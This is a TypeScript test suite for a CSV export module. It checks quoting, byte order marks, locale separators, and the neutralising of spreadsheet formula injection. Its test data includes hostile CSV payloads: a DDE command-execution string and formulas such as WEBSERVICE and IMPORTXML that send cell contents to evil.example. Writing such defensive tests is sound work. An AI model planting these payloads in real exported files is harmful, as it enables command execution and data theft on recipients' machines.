import { describe, expect, it } from 'vitest';
import papaparse from 'papaparse';
import { csvFile, toCsv, type CsvValue } from './csv.ts';

const oneColumn = [{ header: 'value', value: (row: { value: CsvValue }) => row.value }];

async function writtenCells(values: CsvValue[]): Promise<string[]> {
  const text = await toCsv(
    oneColumn,
    values.map((value) => ({ value })),
  );
  const { data, errors } = papaparse.parse<string[]>(text.slice(1), { newline: '\r\n' });
  expect(errors.filter(({ type }) => type !== 'Delimiter')).toEqual([]);
  return data.slice(1).map(([cell]) => cell ?? '');
}

/** Restores the source text as a recipient of the file would: removes the single apostrophe before each formula. */
const withoutApostrophe = (cell: string) => {
  const text = cell.replaceAll(/([;|\t\r\n]['\s\0\u200B\uFEFF]*)'(?=[=+\-@＝＋－＠])/g, '$1');
  return /^'+\s*['\s\0\u200B\uFEFF]*[=+\-@＝＋－＠]|^'[\t\r\n]/.test(text) ? text.slice(1) : text;
};

const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(A1)',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  '=WEBSERVICE("http://evil.example")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  "-2+3+cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '   @SUM(A1)',
  '\u00A0=1+1',
  '\u3000=1+1',
  '\uFEFF=1+1',
  '\u200B=1+1',
  '\u2028=1+1',
  '\0=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' ＝1+1',
  '=1+1\nsecond line',
  '=1+1\r\nsecond line',
  '="a"',
  '=A1,B1',
  '=A1;B1',
  '+49 170 1234567 (mobile)',
  '-',
  '--',
  '+',
  '@',
  '=',
  "'=1+1",
  "''=1+1",
  "' =1+1",
  '-1e5',
  '+1-1',
  '-5%',
  '- 5',
];

describe('toCsv', () => {
  it('starts with a byte order mark and ends lines with CRLF', async () => {
    const columns = [
      { header: 'Name', value: (row: { name: string; age: number }) => row.name },
      { header: 'Age', value: (row: { name: string; age: number }) => row.age },
    ];
    expect(await toCsv(columns, [{ name: 'Ann', age: 31 }])).toBe('\uFEFFName,Age\r\nAnn,31');
  });

  it('writes only the header if there are no rows', async () => {
    expect(await toCsv(oneColumn, [])).toBe('\uFEFFvalue');
  });

  it('quotes commas, quotes and line breaks and doubles a quote', async () => {
    expect(await toCsv(oneColumn, [{ value: 'a,"b"\nc' }])).toBe('\uFEFFvalue\r\n"a,""b""\nc"');
  });

  it('distinguishes an empty text from null', async () => {
    expect(await toCsv(oneColumn, [{ value: '' }, { value: null }, { value: 'x' }])).toBe(
      '\uFEFFvalue\r\n""\r\n\r\nx',
    );
  });

  it('leaves numbers unchanged, including negative numbers and numeric texts', async () => {
    expect(await writtenCells([-5, 1.5, 0, '-5', '+4915112345', '-12.50', true])).toEqual([
      '-5',
      '1.5',
      '0',
      '-5',
      '+4915112345',
      '-12.50',
      'true',
    ]);
  });

  it.each(FORMULAS)('neutralises %j', async (formula) => {
    expect(await writtenCells([formula])).toEqual([`'${formula}`]);
  });

  it('preserves the source text in a round trip', async () => {
    const source = [
      ...FORMULAS,
      'plain',
      "it's",
      "'quoted'",
      'a=b',
      'line 1\nline 2',
      '"',
      '", "',
      '😀',
      ' edge ',
      '1,5',
      '-7',
    ];
    expect((await writtenCells(source)).map(withoutApostrophe)).toEqual(source);
  });

  it('neutralises a header from data', async () => {
    expect(await toCsv([{ header: '=1+1', value: () => 'x' }], [{}])).toBe('\uFEFF"\'=1+1"\r\nx');
  });
});

describe('csvFile', () => {
  it('returns a file with the CSV media type', async () => {
    const file = await csvFile(oneColumn, [{ value: 'ä' }]);
    expect(file.type).toBe('text/csv;charset=utf-8');
    expect(await file.text()).toContain('value\r\nä');
  });

  it.each([
    ['x;=1+1', "x;'=1+1"],
    ['x; =1+1', "x; '=1+1"],
    ['x\t@SUM(A1)', "x\t'@SUM(A1)"],
    ['x|+1', "x|'+1"],
    ['x\n=1+1', "x\n'=1+1"],
    ['=a;=b', "'=a;'=b"],
  ])('neutralises the formula that %j contains for another separator', async (text, cell) => {
    expect(await writtenCells([text])).toEqual([cell]);
  });
});

describe('a file for a spreadsheet in the language of the reader', () => {
  const GERMAN = { separator: ';', decimal: ',' } as const;
  const columns = [
    { header: 'Name', value: ({ name }: { name: string }) => name },
    { header: 'Amount', isNumber: true as const, value: () => '12.50' },
    { header: 'Change', value: () => -3.125 },
  ];

  it('has the separator and the decimal sign of the language', async () => {
    expect(await toCsv(columns, [{ name: 'Version 2.1' }], GERMAN)).toBe(
      '\uFEFFName;Amount;Change\r\nVersion 2.1;12,50;-3,125',
    );
  });

  it('contains no formula for a spreadsheet that separates cells by commas', async () => {
    const text = await toCsv(columns, [{ name: 'x,=1+1;=2' }], GERMAN);
    expect(text).toContain(`"x,'=1+1;'=2";12,50`);
  });
});
